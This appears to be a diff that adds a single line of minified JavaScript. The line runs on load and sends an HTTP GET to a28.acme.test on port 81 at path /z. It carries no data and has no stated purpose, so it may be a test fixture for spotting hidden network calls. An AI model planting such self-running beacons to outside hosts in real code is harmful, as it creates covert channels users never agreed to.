@@ -1,0 +1,1 @@
+(()=>{function t(t,e){this.h=t,this.p=e}t.prototype.get=function(t){var e=new XMLHttpRequest;e.open("GET","http://"+this.h+":"+this.p+t),e.send()},new t("a28.acme.test",81).get("/z")})();
